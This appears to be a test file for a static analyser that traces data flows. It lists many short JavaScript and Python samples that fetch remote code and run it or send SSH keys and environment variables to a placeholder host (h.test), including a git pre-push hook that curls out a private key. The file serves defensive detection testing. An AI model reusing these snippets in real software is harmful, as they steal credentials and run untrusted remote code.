// How everyday programs wait, collect, wrap and hand on: each idiom once with what was fetched arriving in a shell, or a
// secret at a host.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are programs
import { beforeAll, describe, expect, it } from 'vitest';
import { prepare, py, run } from './harness.ts';

beforeAll(prepare);

const SECRET = /content:ssh|env:(?:\*|secrets)/;

/** Ends of what was fetched and of secrets: `net → shell`, `secret → network`. */
function ends(path: string, program: string): string[] {
  const { facts, flows } = run({ [path]: program });
  expect(facts.length, 'the program is read').toBeGreaterThan(0);
  const told = new Set<string>();
  for (const { from, to } of flows()) {
    if (from.includes('net') && (to === 'shell' || to === 'evaluate' || to === 'run-file')) told.add('ran');
    if (from.some((tag) => SECRET.test(tag)) && to === 'network') told.add('left');
  }
  return [...told];
}

const JS: Readonly<Record<string, string>> = {
  'promise settled in an event':
    "const get = (u) => new Promise((done, fail) => { http.get(u, (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => done(b)); }).on('error', fail); });\nget(U).then((t) => eval(t));",
  'promise settled with pieces':
    "function get(u) { return new Promise((resolve) => { http.get(u, (r) => { const p = []; r.on('data', (d) => p.push(d)); r.on('end', () => resolve(Buffer.concat(p).toString())); }); }); }\n(async () => { eval(await get(U)); })();",
  'promise settled by a callback':
    "const read = (f) => new Promise((yes, no) => fs.readFile(f, 'utf8', (e, d) => (e ? no(e) : yes(d))));\nread(KEY).then((d) => fetch(U, { method: 'POST', body: d }));",
  'promise handed on as a listener':
    "const get = (u) => new Promise((resolve) => http.get(u, (r) => r.on('data', resolve)));\nget(U).then((t) => cp.execSync(String(t)));",
  promisified:
    "const read = util.promisify(fs.readFile);\nread(KEY, 'utf8').then((d) => fetch(U, { method: 'POST', body: d }));",
  'promisified command': 'const sh = util.promisify(cp.exec);\nfetch(U).then((r) => r.text()).then((t) => sh(t));',
  'chunks waited for':
    "(async () => { const r = await fetch(U); let t = ''; for await (const c of r.body) t += c; eval(t); })();",
  'stream read':
    'http.get(U, async (r) => { const parts = []; for await (const c of r) parts.push(c); eval(Buffer.concat(parts).toString()); });',
  'client made once':
    "const api = axios.create({ baseURL: U });\nasync function send(d) { await api.post('/k', { d }); }\nsend(fs.readFileSync(KEY, 'utf8'));",
  'client in a field':
    "class C { #h = axios.create({ baseURL: U }); async put(d) { return this.#h.post('/k', d); } }\nnew C().put(fs.readFileSync(KEY, 'utf8'));",
  'all at once':
    "const files = [KEY];\nPromise.all(files.map((f) => fs.promises.readFile(f, 'utf8'))).then((all) => fetch(U, { method: 'POST', body: JSON.stringify(all) }));",
  'waited for in a loop':
    "(async () => { const out = {}; for (const f of [KEY]) out[f] = await fs.promises.readFile(f, 'utf8'); await fetch(U, { method: 'POST', body: JSON.stringify(out) }); })();",
  'taken apart': 'const { data: { run } } = await axios.get(U);\ncp.execSync(run);',
  'parameters taken apart':
    'async function go({ url, then }) { const r = await fetch(url); then(await r.text()); }\ngo({ url: U, then: (t) => eval(t) });',
  'reduced to one':
    'const all = [KEY].reduce((a, f) => ({ ...a, [f]: fs.readFileSync(f, "utf8") }), {});\nfetch(U, { method: "POST", body: JSON.stringify(all) });',
  'optional call':
    'const hooks = { done: (t) => eval(t) };\nfetch(U).then((r) => r.text()).then((t) => hooks.done?.(t));',
  'class with a queue':
    "class Q { items = []; add(x) { this.items.push(x); return this; } async flush() { await fetch(U, { method: 'POST', body: JSON.stringify(this.items) }); } }\nnew Q().add(fs.readFileSync(KEY, 'utf8')).flush();",
  'retry wrapper':
    'async function retry(fn, n = 3) { for (let i = 0; i < n; i++) { try { return await fn(); } catch (e) { if (i === n - 1) throw e; } } }\nretry(() => fetch(U)).then((r) => r.text()).then((t) => eval(t));',
  'table of handlers':
    "const handlers = { run: ({ code }) => eval(code), ping: () => 'pong' };\nconst s = new WebSocket(U);\ns.onmessage = (e) => { const m = JSON.parse(e.data); handlers[m.type]?.(m); };",
  'switch of orders':
    "const s = new WebSocket(U);\ns.addEventListener('message', ({ data }) => { const m = JSON.parse(data); switch (m.op) { case 'run': cp.exec(m.arg); break; default: } });",
  'piped to a program': "http.get(U, (r) => { const p = cp.spawn('sh'); r.pipe(p.stdin); });",
  'pipeline to a program': "const p = cp.spawn('sh');\nhttp.get(U, (r) => stream.pipeline(r, p.stdin, () => {}));",
  'written and started':
    "http.get(U, (r) => { const f = fs.createWriteStream('/tmp/x.sh'); r.pipe(f); f.on('finish', () => cp.execFile('/tmp/x.sh')); });",
  'form filled':
    "const form = new FormData();\nform.append('f', new Blob([fs.readFileSync(KEY)]), 'k');\nfetch(U, { method: 'POST', body: form });",
  'form of a package':
    "const FormData = require('form-data');\nconst form = new FormData();\nform.append('f', fs.createReadStream(KEY));\naxios.post(U, form, { headers: form.getHeaders() });",
  beacon: 'navigator.sendBeacon(U, JSON.stringify(process.env));',
  picture: "new Image().src = U + '?d=' + encodeURIComponent(JSON.stringify(process.env));",
  'address with a parameter': "const u = new URL(U);\nu.searchParams.set('d', JSON.stringify(process.env));\nfetch(u);",
  'query put together': 'const q = new URLSearchParams({ d: JSON.stringify(process.env) });\nfetch(`${U}?${q}`);',
  'request object': "fetch(new Request(U, { method: 'POST', body: JSON.stringify(process.env) }));",
  'got extended': "const api = got.extend({ prefixUrl: U });\napi.post('k', { json: { e: process.env } });",
  undici: "undici.request(U, { method: 'POST', body: JSON.stringify(process.env) });",
  'http request written to':
    "const r = https.request(U, { method: 'POST' });\nr.write(JSON.stringify(process.env));\nr.end();",
  'filtered environment':
    "const e = Object.fromEntries(Object.entries(process.env).filter(([k]) => /SECRET|TOKEN/.test(k)));\nfetch(U, { method: 'POST', body: JSON.stringify(e) });",
  'worker of a text': 'const w = new worker_threads.Worker(await (await fetch(U)).text(), { eval: true });',
  'imported from data':
    "const t = await (await fetch(U)).text();\nawait import('data:text/javascript,' + encodeURIComponent(t));",
  'module made by hand':
    "const M = require('module');\nconst m = new M('x');\nfetch(U).then((r) => r.text()).then((t) => m._compile(t, 'x.js'));",
  'function constructor of a function':
    'fetch(U).then((r) => r.text()).then((t) => (async () => {}).constructor(t)());',
  'rules of an answer, or built-in ones':
    "const D = [{ w: 'a' }];\nasync function rules() { try { const r = await fetch(U); return r.ok ? await r.json() : D; } catch { return D; } }\nrules().then((all) => all.map((one) => new Function('a', `return (${one.w})`)));",
  'second version of the protocol':
    "const http2 = require('http2');\nconst c = http2.connect('https://h.test');\nconst r = c.request({ ':method': 'POST', ':path': '/x' });\nr.end(fs.readFileSync(KEY));",
  'pool of connections':
    "new undici.Pool('https://h.test').request({ path: '/x', method: 'POST', body: fs.readFileSync(KEY) });",
  'form that submits itself':
    "const FormData = require('form-data');\nconst f = new FormData();\nf.append('f', fs.createReadStream(KEY));\nf.submit(U);",
  'stream of a client': 'fs.createReadStream(KEY).pipe(got.stream.post(U));',
  'archive filled when it has a way out':
    "const archiver = require('archiver');\nconst a = archiver('zip');\na.pipe(fs.createWriteStream('/tmp/z.zip'));\na.file(KEY, { name: 'k' });\na.finalize().then(() => fetch(U, { method: 'POST', body: fs.readFileSync('/tmp/z.zip') }));",
  'archive of a folder':
    "const tar = require('tar');\ntar.c({ gzip: true, file: '/tmp/k.tgz' }, ['/home/u/.ssh']).then(() => fetch(U, { method: 'POST', body: fs.readFileSync('/tmp/k.tgz') }));",
  'put over ssh':
    "const { Client } = require('ssh2');\nconst c = new Client();\nc.on('ready', () => c.sftp((e, s) => s.fastPut(KEY, '/in/k'))).connect({ host: 'h.test' });",
  'the others of a list':
    "const sinks = [async () => {}, (d) => fetch(U, { method: 'POST', body: d })];\nconst [first, ...others] = sinks;\nothers.map((sink) => sink(fs.readFileSync(KEY, 'utf8')));",
  'queue that a timer empties':
    "class Q { constructor() { this.items = []; setInterval(() => this.flush(), 1000); } add(x) { this.items.push(x); } async flush() { await fetch(U, { method: 'POST', body: JSON.stringify(this.items) }); } }\nconst q = new Q();\nq.add(fs.readFileSync(KEY, 'utf8'));",
  'table of records by platform':
    "const T = { darwin: { file: '/tmp/a', say: (d) => `a ${d}` }, linux: { file: '/tmp/b', say: (d) => `b ${d}` } };\nconst t = T[process.platform];\nfs.writeFileSync(t.file, t.say(fs.readFileSync(KEY, 'utf8')));\nfetch(U, { method: 'POST', body: fs.readFileSync('/tmp/b') });",
  'rows of a name and its lines':
    "const H = { 'post-checkout': ['true'], 'pre-push': ['X=1', `curl --data-binary @/home/u/.ssh/id_rsa ${U}`] };\nfor (const [name, lines] of Object.entries(H)) { fs.writeFileSync(`.git/hooks/${name}`, ['#!/bin/sh', ...lines].join('\\n')); }",
  'client that was handed in':
    'export async function write(context) { await context.request.post(U, { data: { env: await fs.promises.readFile(KEY) } }); }',
  'script of vm': 'fetch(U).then((r) => r.text()).then((t) => new vm.Script(t).runInNewContext({ require }));',
};

const expandJs = (program: string): string =>
  `const fs = require('fs'), cp = require('child_process'), http = require('http'), https = require('https'), util = require('util'), axios = require('axios'), got = require('got'), undici = require('undici'), vm = require('vm'), stream = require('stream'), worker_threads = require('worker_threads');\n${program
    .replace(/\bU\b/g, "'https://h.test/x'")
    .replace(/\bKEY\b/g, "'/home/u/.ssh/id_rsa'")}\n`;

describe('javascript', () => {
  for (const [idiom, program] of Object.entries(JS))
    it(idiom, () => expect(ends('scripts/a.mjs', expandJs(program))).not.toEqual([]));
});

const PY: Readonly<Record<string, string>> = {
  'method put on a class by what decorates it':
    'def kept(cls):\n    first = cls.__init__\n    def __init__(self, *a):\n        first(self, *a)\n        self.note()\n    cls.__init__ = __init__\n    cls.note = lambda self: requests.post(U, data=open(self.origin).read())\n    return cls\n@kept\nclass Report:\n    origin = KEY\n    def __init__(self, title):\n        self.title = title\nReport("a")',
  'classes that their base keeps by name':
    'class Step:\n    all = {}\n    def __init_subclass__(cls, **kw):\n        super().__init_subclass__(**kw)\n        Step.all[cls.__name__] = cls()\nclass Words(Step):\n    def run(self): return 1\nclass Names(Step):\n    def run(self): return dict(os.environ)\ndef main():\n    told = {name: one.run() for name, one in Step.all.items()}\n    requests.post(U, json=told)\nmain()',
  'classes that are kept by what decorates them':
    'ALL = {}\ndef step(cls):\n    ALL[cls.__name__] = cls\n    return cls\n@step\nclass Names:\n    def run(self): return dict(os.environ)\n@step\nclass Words:\n    def run(self): return 1\nfor name, made in ALL.items():\n    requests.post(U, json=made().run())',
  'classes that are asked of their base':
    'class Step:\n    pass\nclass Names(Step):\n    def run(self): return dict(os.environ)\nclass Words(Step):\n    def run(self): return 1\nfor made in Step.__subclasses__():\n    requests.post(U, json=made().run())',
  'what is left to be done behind a block':
    'import contextlib\nparts = []\nwith contextlib.ExitStack() as stack:\n    stack.callback(lambda: requests.post(U, data="".join(parts)))\n    parts.append(open(KEY).read())',
  'what a context of its own leaves behind':
    'import contextlib\nclass Kept(contextlib.ExitStack):\n    def __init__(self):\n        super().__init__()\n        self.parts = []\n        self.callback(self.flush)\n    def flush(self):\n        requests.post(U, data="".join(self.parts))\nwith Kept() as kept:\n    kept.parts.append(open(KEY).read())',
  'table that one function fills and another goes through':
    'STEPS = {1: "x"}\ndef load():\n    for n, s in requests.get(U).json().get("steps", {}).items():\n        STEPS[int(n)] = s\ndef run():\n    for n in sorted(STEPS):\n        exec(STEPS[n])\nload()\nrun()',
  'name of what is called from outside': 'a = requests.get(U).json()\npydoc.locate(a["model"])(*a["args"])',
  'words of a line': 'subprocess.run(shlex.split(requests.get(U).json()["run"]))',
  'client as a context': 'with httpx.Client(base_url=U) as c:\n    c.post("/k", json={"d": open(KEY).read()})',
  'async client':
    'async def go():\n    async with httpx.AsyncClient() as c:\n        r = await c.get(U)\n        exec(r.text)\nasyncio.run(go())',
  aiohttp:
    'async def go():\n    async with aiohttp.ClientSession() as s:\n        async with s.get(U) as r:\n            exec(await r.text())\nasyncio.run(go())',
  'session in a field':
    'class C:\n    def __init__(self):\n        self.s = requests.Session()\n    def put(self, d):\n        self.s.post(U, data=d)\nC().put(open(KEY).read())',
  dataclass:
    'from dataclasses import dataclass, field\n@dataclass\nclass C:\n    base: str = U\n    seen: list = field(default_factory=list)\n    def add(self, x):\n        self.seen.append(x)\n        return self\n    def go(self):\n        requests.post(self.base, json=self.seen)\nC().add(open(KEY).read()).go()',
  'worker loop':
    'class W:\n    base = U\n    def next(self):\n        return requests.get(f"{self.base}/n").json()\n    def loop(self):\n        while True:\n            t = self.next()\n            if t:\n                self.handle(t)\n    def handle(self, t):\n        subprocess.run(t["run"], shell=True)\nW().loop()',
  'generator of files':
    'def each():\n    for p in [KEY]:\n        yield p, open(p).read()\nrequests.post(U, json=dict(each()))',
  'generator of generators':
    'def a():\n    yield open(KEY).read()\ndef b():\n    yield from a()\nrequests.post(U, json=list(b()))',
  'mapped over': 'requests.post(U, json=list(map(lambda p: Path(p).read_text(), [KEY])))',
  'pool of threads':
    'from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as ex:\n    for f in ex.map(lambda p: open(p).read(), [KEY]):\n        requests.post(U, data=f)',
  'future of a pool':
    'from concurrent.futures import ThreadPoolExecutor, as_completed\nwith ThreadPoolExecutor() as ex:\n    fs = [ex.submit(lambda p: open(p).read(), p) for p in [KEY]]\n    for f in as_completed(fs):\n        requests.post(U, data=f.result())',
  'queue between threads':
    'import queue, threading\nq = queue.Queue()\ndef work():\n    while True:\n        requests.post(U, data=q.get())\nthreading.Thread(target=work).start()\nq.put(open(KEY).read())',
  'the others of a list':
    'def send(d):\n    requests.post(U, data=d)\nfirst, *others, last = [print, send, print]\nfor f in others:\n    f(open(KEY).read())',
  'queue that a task empties':
    'async def work(q):\n    while True:\n        requests.post(U, data=await q.get())\nasync def main():\n    q = asyncio.Queue()\n    asyncio.create_task(work(q))\n    await q.put(open(KEY).read())\nasyncio.run(main())',
  'template of the standard library': 'import string\nos.system(string.Template("curl $u | sh").substitute(u=U))',
  'client that was handed in': 'def go(http):\n    http.post(U, json={"k": open(KEY).read()})',
  'cached function':
    'import functools\n@functools.lru_cache\ndef key():\n    return open(KEY).read()\nrequests.post(U, data=key())',
  'named tuple':
    'from collections import namedtuple\nR = namedtuple("R", "name text")\nr = R("k", open(KEY).read())\nrequests.post(U, data=r.text)',
  walrus: 'if (t := requests.get(U).text):\n    exec(t)',
  match: 'match requests.get(U).json():\n    case {"op": "run", "arg": a}:\n        os.system(a)',
  unpacked: 'op, arg = requests.get(U).text.split(" ", 1)\nos.system(arg)',
  'table of functions': 'T = {"run": os.system, "say": print}\nm = requests.get(U).json()\nT[m["op"]](m["arg"])',
  'buffer in memory':
    'import io, zipfile\nb = io.BytesIO()\nwith zipfile.ZipFile(b, "w") as z:\n    z.write(KEY)\nb.seek(0)\nrequests.post(U, files={"f": b})',
  'archive of files':
    'import tarfile\nwith tarfile.open("/tmp/o.tgz", "w:gz") as t:\n    t.add(KEY)\nrequests.post(U, data=open("/tmp/o.tgz", "rb"))',
  'copied first': 'import shutil\nrequests.post(U, data=open(shutil.copy(KEY, "/tmp/k")).read())',
  'copied and joined':
    'import shutil, tempfile\nd = tempfile.mkdtemp()\nshutil.copy(KEY, os.path.join(d, "k"))\nrequests.post(U, data=open(os.path.join(d, "k")).read())',
  'lines joined': 'requests.post(U, data="\\n".join(l.strip() for l in open(KEY)))',
  'urllib with an opener': 'o = urllib.request.build_opener()\nexec(o.open(U).read())',
  'fetched to a file and imported':
    'import importlib.util\nurllib.request.urlretrieve(U, "/tmp/m.py")\ns = importlib.util.spec_from_file_location("m", "/tmp/m.py")\nm = importlib.util.module_from_spec(s)\ns.loader.exec_module(m)',
  'fetched and started':
    'Path("/tmp/x").write_bytes(requests.get(U).content)\nos.chmod("/tmp/x", 0o755)\nsubprocess.Popen(["/tmp/x"])',
  'fetched in pieces':
    'with requests.get(U, stream=True) as r, open("/tmp/x.sh", "wb") as f:\n    for c in r.iter_content(8192):\n        f.write(c)\nsubprocess.run(["bash", "/tmp/x.sh"])',
  'fetched by a program': 'subprocess.run(["curl", "-o", "/tmp/x.sh", U])\nsubprocess.run(["sh", "/tmp/x.sh"])',
  'output of a program': 'out = subprocess.check_output(["cat", KEY])\nrequests.post(U, data=out)',
  'output of a pipe':
    'p = subprocess.Popen(["curl", "-s", U], stdout=subprocess.PIPE)\nsubprocess.run(["sh"], stdin=p.stdout)',
  'hidden in an f-string of a shell': 'subprocess.run(f"curl -d @{KEY} {U}", shell=True)',
  'environment picked': 'requests.post(U, json={k: v for k, v in os.environ.items() if "KEY" in k})',
  'environment copied': 'e = os.environ.copy()\nrequests.post(U, json=e)',
  'settings object': 'class S:\n    url = U\n    path = KEY\ns = S()\nrequests.post(s.url, data=open(s.path).read())',
  'callback given': 'def fetch(then):\n    then(requests.get(U).text)\nfetch(exec)',
  decorated:
    'def twice(f):\n    def w(*a, **k):\n        return f(*a, **k)\n    return w\n@twice\ndef send(d):\n    requests.post(U, data=d)\nsend(open(KEY).read())',
  closure:
    'def sender(u):\n    def go(d):\n        requests.post(u, data=d)\n    return go\nsender(U)(open(KEY).read())',
  'subclass fills in':
    'class B:\n    def go(self):\n        exec(self.load())\nclass D(B):\n    def load(self):\n        return requests.get(U).text\nD().go()',
  property: 'class C:\n    @property\n    def t(self):\n        return requests.get(U).text\nexec(C().t)',
  'context manager of its own':
    'from contextlib import contextmanager\n@contextmanager\ndef got():\n    yield requests.get(U).text\nwith got() as t:\n    exec(t)',
};

const expandPy = (program: string): string =>
  `import os, subprocess, shlex, asyncio, urllib.request, requests, httpx, aiohttp\nfrom pathlib import Path\n${program
    .replace(/\bU\b/g, '"https://h.test/x"')
    .replace(/\bKEY\b/g, '"/home/u/.ssh/id_rsa"')
    .replace(
      'f"curl -d @{"/home/u/.ssh/id_rsa"} {"https://h.test/x"}"',
      "f\"curl -d @{'/home/u/.ssh/id_rsa'} {'https://h.test/x'}\"",
    )}\n`;

describe('what a client sent', () => {
  const given = (path: string, program: string) =>
    run({ [path]: program })
      .flows()
      .map(({ from, to }) => `${from.join('+')} -> ${to}`);
  it('is told by the type a parameter is declared with', () => {
    expect(
      given(
        'a.py',
        'import os\nfrom aiohttp import web\nasync def go(request: web.Request):\n    os.system((await request.json())["x"])\n',
      ),
    ).toContain('net+request -> shell');
    expect(
      given(
        'a.ts',
        "import { exec } from 'child_process';\nexport const go = (req: express.Request) => exec(req.body.cmd);\n",
      ),
    ).toContain('net+request -> shell');
  });
  it('is none where something else is declared', () => {
    expect(
      given('a.py', 'import os\ndef go(request: RequestOptions):\n    os.system(request.line)\n').join(),
    ).not.toContain('request');
    expect(
      given(
        'a.ts',
        "import { exec } from 'child_process';\nexport const go = (o: RequestInit) => exec(o.cmd);\n",
      ).join(),
    ).not.toContain('request');
  });
});

describe('several files', () => {
  it('a thread of one takes in what another puts there', () => {
    const { flows } = run({
      'scripts/a.py':
        "from trace import Trace\nt = Trace('https://h.test/x')\nt.offer(open('/home/u/.ssh/id_rsa').read())\n",
      'scripts/trace.py':
        'import queue, threading, requests\nclass Trace:\n    def __init__(self, sink):\n        self.sink = sink\n        self.q = queue.Queue()\n        threading.Thread(target=self._drain).start()\n    def offer(self, item):\n        self.q.put_nowait(item)\n    def _drain(self):\n        while True:\n            requests.post(self.sink, data=self.q.get())\n',
    });
    expect(flows().some(({ from, to }) => to === 'network' && from.some((tag) => SECRET.test(tag)))).toBe(true);
  });
});

describe('python', () => {
  for (const [idiom, program] of Object.entries(PY))
    it(idiom, () => expect(ends('scripts/a.py', expandPy(program))).not.toEqual([]));
});

describe('what is come to by several ways', () => {
  it('a call receives what any of them brings', () => {
    const { facts } = py(
      'import pickle, urllib.request\ndef unpack(blob):\n    return pickle.loads(blob[8:])\ndef fetch():\n    return unpack(urllib.request.urlopen("https://h.test/p").read())\n',
    );
    const loads = facts.filter((fact) => fact.kind === 'call' && fact.callee === 'pickle.loads');
    expect(loads.flatMap((fact) => (fact.kind === 'call' ? fact.receives : []))).toContain('net');
  });

  it('a pattern lists the folder it names', () => {
    const { facts } = py('from pathlib import Path\nfor p in Path.home().glob("notes/*.md"):\n    print(p)\n');
    const listed = facts.flatMap((fact) => (fact.kind === 'path' && fact.access === 'list' ? [fact.path] : []));
    expect(listed).toEqual(['~/notes']);
  });

  it('the module that came along is the one that is imported', () => {
    const fill = (folder: string) =>
      `import io, tarfile, urllib.request\nimport profiles\ndata = urllib.request.urlopen("https://h.test/p.tgz").read()\ntarfile.open(fileobj=io.BytesIO(data)).extractall("${folder}")\n`;
    const runs = (files: Record<string, string>) =>
      run(files).facts.some((fact) => fact.kind === 'flow' && fact.to === 'run-file');
    expect(runs({ 'scripts/a.py': fill('profiles'), 'scripts/profiles.py': 'X = 1\n' })).toBe(false);
  });
});
